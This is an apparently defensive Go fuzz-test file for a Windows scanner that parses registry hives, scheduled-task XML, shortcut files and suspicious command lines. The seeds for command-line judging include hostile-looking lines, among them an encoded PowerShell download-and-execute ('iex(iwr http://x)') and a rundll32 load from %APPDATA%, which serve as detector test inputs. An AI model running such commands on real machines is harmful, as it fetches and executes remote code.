package windows

import (
	"os"
	"path/filepath"
	"testing"
)

// addHiveSeeds adds a few small real hives as seeds where they are present.
func addHiveSeeds(f *testing.F) {
	root := filepath.Join(repoRoot(f), "..", "shared", "external", "hives")
	for _, rel := range []string{"python-registry/UNICODE_TESTS", "python-registry/REORGANIZED_VALUES_TESTS", "python-registry/issue22.hive"} {
		if b, err := os.ReadFile(filepath.Join(root, rel)); err == nil {
			f.Add(b)
		}
	}
	if b, err := os.ReadFile(filepath.Join(root, "artemis/NTUSER_Bad.DAT")); err == nil && len(b) > 0x3000 {
		f.Add(b[:0x3000])
	}
	f.Add([]byte("regf"))
}

// FuzzHive drives the registry reading path the checks use (regparser under
// recover, our index and value walking) over arbitrary bytes: it must end
// and never panic. Run with: go test -fuzz FuzzHive ./scanner/windows
func FuzzHive(f *testing.F) {
	addHiveSeeds(f)
	f.Fuzz(func(t *testing.T, data []byte) {
		h, err := parseHive(data)
		if err != nil {
			return
		}
		_ = h.dirty()
		n := 0
		_ = walkHive(h, 64, func(p string, k *regKey) error {
			n++
			_ = k.LastWrite()
			if vals, _ := k.Values(); len(vals) > 0 {
				_ = vals[0].Text()
			}
			if n > 10000 {
				return errHiveBudget
			}
			return nil
		})
		for _, p := range []string{`Software\Microsoft\Windows\CurrentVersion\Run`, `Select`, `ControlSet001\Services`} {
			if k, _ := h.open(p); k != nil {
				_, _, _ = k.Value("Current")
			}
		}
		_, _ = currentControlSet(h)
	})
}

// FuzzParseTask: the task XML parser over arbitrary bytes.
func FuzzParseTask(f *testing.F) {
	for _, enc := range []string{"utf-16le-bom", "utf-8"} {
		f.Add(encodeTask(f, enc))
	}
	f.Add([]byte(`<Task><Actions><Exec><Command>a</Command></Exec></Actions></Task>`))
	f.Fuzz(func(t *testing.T, data []byte) {
		task, err := ParseTask(data)
		if err != nil {
			return
		}
		for _, e := range task.Execs {
			_ = e.CommandLine()
		}
		_, _ = task.RunAs()
	})
}

// FuzzParseLnk: the shell-link reader over arbitrary bytes.
func FuzzParseLnk(f *testing.F) {
	f.Add(lnkFile(`C:\a\b.exe`, "-x", `C:\a`))
	f.Fuzz(func(t *testing.T, data []byte) {
		_, _ = parseLnk(data)
	})
}

// FuzzJudge: command-line judging (splitting, env expansion, decoding,
// regexps) over arbitrary text.
func FuzzJudge(f *testing.F) {
	r := mustRules(f)
	f.Add(`powershell -enc ` + psEnc("iex(iwr http://x)"))
	f.Add(`cmd /c "a & b | c" && "C:\Program Files\x.exe"`)
	f.Add(`rundll32 %APPDATA%\x.dll,Start`)
	f.Fuzz(func(t *testing.T, line string) {
		for _, h := range r.judge(line, "u", logonPlace) {
			if h.Rule == "" || h.Title == "" {
				t.Fatalf("hit without rule or title: %+v", h)
			}
		}
	})
}
